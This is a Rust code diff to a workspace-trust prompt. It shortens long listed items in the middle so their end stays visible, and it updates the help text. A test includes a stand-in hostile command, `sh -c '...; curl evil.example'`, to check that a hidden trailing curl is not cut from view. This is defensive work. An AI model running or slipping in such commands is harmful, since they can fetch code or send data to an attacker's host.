@@ -10,10 +10,15 @@ use crate::terminal::{self, Before, Look, Manner, Question, Reply, Text, Value, 
 /// Names that are listed of one kind. Someone may have made thousands.
 const NAMES_MAX: usize = 1000;
 
+/// Longest item that is shown whole.
+const ITEM_BYTES_MAX: usize = 2000;
+
 /// What is said about the answers.
 const HELP: &str = "1, y: jaato reads these files as they are; they can give the model instructions,\n\
     start servers and allow commands; a change to one of them withdraws the trust\n\
-    2, n: jaato works without them, and does not ask again until they change";
+    if variables are listed, they are sent to these servers, until an entry changes\n\
+    2, n: jaato works without them, and does not ask again until they change;\n\
+    `jaato trust` trusts them later, `jaato trust --no-variables` without the variables";
 
 /// Something that a workspace brings, and that works only if the user trusts the workspace.
 #[derive(Debug)]
@@ -58,12 +63,30 @@ fn question_of(root: &str, brings: &[Brings]) -> Question {
 }
 
 fn value_of(brings: &Brings) -> Value {
-    let names = brings.items.iter().take(NAMES_MAX);
-    let mut lines: Vec<String> = names.map(|name| visible::name(name).into_owned()).collect();
-    if brings.items.len() > NAMES_MAX {
-        lines.push(format!("and {} more", brings.items.len() - NAMES_MAX));
+    Value::new(Some(brings.what.clone()), brings.lines().join("\n"))
+}
+
+impl Brings {
+    /// Returns a line for each item, as a terminal can show it. Both the lines and their lengths are
+    /// bounded.
+    pub fn lines(&self) -> Vec<String> {
+        let mut lines: Vec<String> =
+            self.items.iter().take(NAMES_MAX).map(|item| bounded(&visible::name(item))).collect();
+        if self.items.len() > NAMES_MAX {
+            lines.push(format!("and {} more", self.items.len() - NAMES_MAX));
+        }
+        lines
     }
-    Value::new(Some(brings.what.clone()), lines.join("\n"))
+}
+
+/// Shortens a long item in its middle, because what matters may stand at its end.
+fn bounded(item: &str) -> String {
+    if item.len() <= ITEM_BYTES_MAX {
+        return item.to_owned();
+    }
+    let start = item.floor_char_boundary(ITEM_BYTES_MAX / 2);
+    let end = item.ceil_char_boundary(item.len() - ITEM_BYTES_MAX / 2);
+    format!("{} … {} bytes … {}", &item[..start], end - start, &item[end..])
 }
 
 fn read_answer(line: &str) -> Result<Answer, String> {
@@ -101,6 +124,14 @@ mod tests {
         assert_eq!(lines[1], "1<U+000A>hint: run it");
         assert_eq!(lines[NAMES_MAX], "and 3096 more");
         assert_eq!(value(NAMES_MAX).lines().count(), NAMES_MAX);
+    }
+
+    #[test]
+    fn a_long_item_shows_its_beginning_and_its_end() {
+        let item = format!("sh -c '{}; curl evil.example'", "é".repeat(5000));
+        let line = &Brings { what: String::new(), items: vec![item] }.lines()[0];
+        assert!(line.starts_with("sh -c 'é") && line.ends_with("é; curl evil.example'"), "{line}");
+        assert!(line.contains(" bytes … ") && line.len() < ITEM_BYTES_MAX + 100, "{line}");
     }
 
     #[test]
